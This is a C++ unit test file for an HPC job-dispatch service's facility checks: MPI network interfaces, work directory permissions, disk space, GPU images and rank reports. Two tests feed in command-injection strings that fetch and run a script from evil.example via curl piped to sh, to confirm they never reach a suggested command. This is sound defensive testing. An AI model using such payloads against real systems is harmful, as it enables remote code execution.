#include "services/dispatch/domain/check_job.h"

#include <gtest/gtest.h>

#include <map>

#include "services/dispatch/domain/facility_check.h"
#include "shared/base/text.h"

namespace atl::dispatch {
namespace {

Facility facility() {
    Facility one;
    one.name = "leonardo";
    one.batch.kind = BatchKind::kSlurm;
    return one;
}

TEST(CheckJobTest, RanksThatDoNotReachOneAnotherAreToldTheVariableThatMendsIt) {
    const std::string said =
        "atoll-trainer: rank 1 of 2 on lrdn0421.leonardo.local has waited 120 s for the first exchange between the "
        "ranks. "
        "Either another rank does not start, or MPI uses a network interface by which the machines do not reach each "
        "other, such as the bridge docker0. Interfaces here: ib0 10.128.0.21, docker0 172.17.0.1. To choose one, set "
        "OMPI_MCA_btl_tcp_if_include=ib0 (with UCX: UCX_NET_DEVICES=ib0) in the environment of all ranks; the limit is "
        "over";
    const auto rows = judge_check_job({}, 1, said, facility());
    ASSERT_EQ(rows.size(), 2U);
    EXPECT_EQ(rows[0].name, "network");
    EXPECT_EQ(rows[0].state, CheckState::kFail);
    EXPECT_NE(rows[0].seen.find("UCX_NET_DEVICES=ib0"), std::string::npos) << "the whole of it: " << rows[0].seen;
    EXPECT_NE(rows[0].mend.find("atoll facility set leonardo --env OMPI_MCA_btl_tcp_if_include=ib0,"),
              std::string::npos)
        << rows[0].mend;
    // A site can print what the trainer does: none of its words is for a shell to run.
    const auto printed_by_a_site = judge_check_job(
        {}, 1, replace_all(said, "include=ib0", "include=$(curl${IFS}-s${IFS}evil.example|sh)"), facility());
    EXPECT_NE(printed_by_a_site[0].mend.find("--env NAME=INTERFACE,"), std::string::npos) << printed_by_a_site[0].mend;
}

TEST(SiteRowsTest, AWorkDirectoryThatIsSomebodyElsesIsToBeGivenAway) {
    const auto mend = [](const char* fact, const char* said) {
        for (const CheckRow& row : judge_site({{fact, said}, {"user", "ada"}}, {}, facility(), {}).rows)
            if (row.name == "work_dir") return row.mend;
        return std::string();
    };
    EXPECT_TRUE(mend("no_write", "touch: Permission denied").starts_with("give it to ada there, or take another"));
    EXPECT_TRUE(mend("no_write", "touch: No space left on device").starts_with("free some"));
    EXPECT_TRUE(mend("no_work_dir", "mkdir: Permission denied").starts_with("make it and give it to ada there"));
    EXPECT_TRUE(mend("no_work_dir", "mkdir: No such file or directory").starts_with("make what it lies in"));
    for (const char* fact : {"no_write", "no_work_dir"}) {
        const std::string read_only = mend(fact, "mkdir: cannot create '/w': Read-only file system");
        EXPECT_TRUE(read_only.starts_with("its file system is mounted read-only, which chmod does not change: ask"))
            << read_only;
        EXPECT_NE(read_only.find("or take another: atoll facility set leonardo --work-dir"), std::string::npos)
            << read_only;
    }
}

void expect_each_failure_has_a_mend(const std::vector<CheckRow>& rows) {
    for (const CheckRow& row : rows) {
        const bool is_wrong = row.state == CheckState::kFail || row.state == CheckState::kWarn;
        EXPECT_TRUE(!is_wrong || !row.mend.empty()) << row.name << ": " << row.seen;
    }
}

TEST(SiteRowsTest, EachRowThatFailsSaysWhatToDo) {
    const std::vector<std::pair<std::string, std::string>> faults = {{"missing", "awk"},
                                                                     {"no_slurm", "sbatch"},
                                                                     {"no_queue", "no answer"},
                                                                     {"odd_queue", "columns"},
                                                                     {"no_limits", "no answer"},
                                                                     {"no_work_dir", "gone"},
                                                                     {"no_write", "no reason"},
                                                                     {"noexec", "yes"},
                                                                     {"space_kib", "0"},
                                                                     {"files_free", "0"},
                                                                     {"quota", "9 10 1 2"},
                                                                     {"elf", "183"},
                                                                     {"no_program", "atoll"},
                                                                     {"version", "atoll 0"},
                                                                     {"version_error", "lib"},
                                                                     {"no_image", "is not there"},
                                                                     {"node_machine", "aarch64"},
                                                                     {"runtime", ""},
                                                                     {"image_sha256", "abc"},
                                                                     {"image_changed", "yes"},
                                                                     {"no_store", "timed out"},
                                                                     {"mpi", "none"},
                                                                     {"slurm", ""}};
    Facility with_image = facility();
    with_image.image.emplace();
    with_image.image->path = "/w/trainer.sif";
    with_image.image->sha256 = "ff";
    CheckSetting setting;
    setting.store_url = "http://store";
    setting.launcher = "srun --mpi=pmix";
    for (const Facility& one : {facility(), with_image})
        for (const auto& [first, value] : faults)
            for (const auto& [second, other] : faults)
                expect_each_failure_has_a_mend(
                    judge_site({{first, value}, {second, other}, {"clock", "7"}, {"clock", "7"}, {"machine", "x86_64"}},
                               {{"main", not_found("Slurm has no partition")}}, one, setting)
                        .rows);
    expect_each_failure_has_a_mend(judge_check_job({R"({"image_sha256":"none"})"}, 1, "no", with_image));
    expect_each_failure_has_a_mend(judge_check_job({R"({"image_sha256":"none"})"}, {}, "no", with_image));
    for (const std::string report : {R"({"asked_ranks":2})", R"({"ranks":[{"rank":0,"launcher_says":"1"}]})"})
        for (const std::int64_t code : {0, 1, 75, 255})
            expect_each_failure_has_a_mend(judge_check_job({report}, code, "FATAL: no", with_image));
}

TEST(SiteRowsTest, AFileSystemThatIsShortOrFullSaysSoAndWhatToDo) {
    const auto row_of = [](const char* space_kib, const char* files) {
        for (const CheckRow& row :
             judge_site({{"space_kib", space_kib}, {"files_free", files}}, {}, facility(), {}).rows)
            if (row.name == "work_dir") return row;
        return CheckRow();
    };
    EXPECT_EQ(row_of("104857600", "1000000").state, CheckState::kOk);
    for (const auto& [space, files] : {std::pair{"1048576", "1000000"}, {"104857600", "500"}}) {
        const CheckRow is_short = row_of(space, files);
        EXPECT_EQ(is_short.state, CheckState::kWarn) << is_short.seen;
        EXPECT_NE(is_short.seen.find("that is short, less than 10.0 GiB or 10000 files"), std::string::npos)
            << is_short.seen;
        EXPECT_TRUE(is_short.mend.starts_with("free some there: what waits for room goes on by itself; or "))
            << is_short.mend;
    }
    const CheckRow full = row_of("0", "1000000");
    EXPECT_EQ(full.state, CheckState::kFail);
    EXPECT_NE(full.seen.find("it is full"), std::string::npos) << full.seen;
    EXPECT_EQ(full.seen.find("wait"), std::string::npos) << "nobody knows of a task: " << full.seen;
    for (const char* said : {"head: No space left on device", "head: Disk quota exceeded"})
        for (const CheckRow& row : judge_site({{"no_write", said}}, {}, facility(), {}).rows) {
            if (row.name != "work_dir") continue;
            EXPECT_NE(row.seen.find(std::string(" is full: ") + said), std::string::npos) << row.seen;
        }
}

TEST(SiteRowsTest, AnImageForGpusWhoseContainersGetNoneIsToldTheOption) {
    Facility one = facility();
    one.image.emplace();
    one.image->path = "/w/trainer.sif";
    one.image->gpu = "none";
    CheckSetting setting;
    setting.version = "1";
    const auto image = [&](const char* devices) {
        for (const CheckRow& row : judge_site({{"machine", "x86_64"},
                                               {"image_machine", "02"},
                                               {"runtime", "apptainer"},
                                               {"version", "atoll 1"},
                                               {"devices", devices}},
                                              {}, one, setting)
                                       .rows)
            if (row.name == "image") return row;
        return CheckRow();
    };
    EXPECT_EQ(image("cpu").state, CheckState::kOk) << image("cpu").seen;
    const CheckRow none = image("cpu,cuda");
    EXPECT_EQ(none.state, CheckState::kWarn);
    EXPECT_NE(none.seen.find("computes on cpu,cuda, but its containers get none"), std::string::npos) << none.seen;
    EXPECT_NE(none.mend.find("atoll facility set leonardo --set image.gpu=nv"), std::string::npos) << none.mend;
    EXPECT_NE(image("cpu,hip").mend.find("image.gpu=rocm"), std::string::npos) << image("cpu,hip").mend;
    one.image->gpu = "nv";
    EXPECT_EQ(image("cpu,cuda").state, CheckState::kOk) << image("cpu,cuda").seen;
    EXPECT_EQ(image("cpu,hip").state, CheckState::kWarn) << "it is given the other vendor's";
}

TEST(CheckJobTest, AWrongMemberOfItsBodyIsNamed) {
    EXPECT_EQ(parse_check_job({{"queue", "gpu"}}, facility()).error().field, "queue");
}

TEST(CheckJobTest, EachRanksCardIsShown) {
    const auto rows =
        judge_check_job({R"({"mpi":"Open MPI","version":"1","ranks":[)"
                         R"({"rank":0,"host":"n1","local_rank":0,"ranks_on_node":2,"visible_gpus":2,"threads":8,)"
                         R"("device":{"gpu":0,"card":"NVIDIA A100, sm_80, 0000:17:00.0","shared":false}},)"
                         R"({"rank":1,"host":"n1","local_rank":1,"ranks_on_node":2,"visible_gpus":1,"threads":8,)"
                         R"("device":{"gpu":0,"shared":true}}]})"},
                        0, "", facility());
    std::map<std::string, std::string> seen;
    for (const CheckRow& row : rows) seen[row.name] = row.seen;
    EXPECT_EQ(seen["rank 0"],
              "n1, local rank 0 of 2, 2 GPUs, computes on GPU 0 (NVIDIA A100, sm_80, 0000:17:00.0) with 8 threads");
    EXPECT_EQ(seen["rank 1"],
              "n1, local rank 1 of 2, 1 GPUs, computes on GPU 0, which other ranks take too, with 8 threads");
}

TEST(CheckJobTest, RanksThatDoNotStartAreTheLaunchers) {
    const auto rows = judge_check_job({}, 1, "srun: error: PMIx is not supported", facility());
    ASSERT_EQ(rows.size(), 2U);
    EXPECT_EQ(rows[0].name, "launcher");
    EXPECT_NE(rows[0].mend.find("--mpi=KIND"), std::string::npos) << rows[0].mend;
}

// A site may print what it likes.
TEST(CheckJobTest, OnlyADigestComesIntoACommand) {
    Facility with_image = facility();
    with_image.image.emplace();
    with_image.image->path = "/w/trainer.sif";
    const auto rows_of = [&](const std::vector<std::string>& lines) {
        std::string all;
        for (const CheckRow& row : judge_check_job(lines, 0, "", with_image)) all += to_json(row).dump() + "\n";
        return all;
    };
    const std::string evil = "$(curl${IFS}-s${IFS}http://evil.example/x|sh)#" + std::string(18, 'a');
    ASSERT_EQ(evil.size(), 64U);
    const std::string ranks = R"({"ranks":[{"rank":0,"host":"n1"}]})";
    EXPECT_EQ(rows_of({Json{{"image_sha256", evil}}.dump(), ranks}).find("image.sha256="), std::string::npos);
    const std::string digest(64, 'a'), other(64, 'b');
    const std::string pinned =
        rows_of({Json{{"image_sha256", digest}}.dump(), Json{{"image_sha256", other}}.dump(), ranks});
    EXPECT_NE(pinned.find("--set image.sha256=" + digest), std::string::npos) << pinned;
    EXPECT_EQ(pinned.find(other), std::string::npos) << "a program of the image has printed that";
}

}  // namespace
}  // namespace atl::dispatch
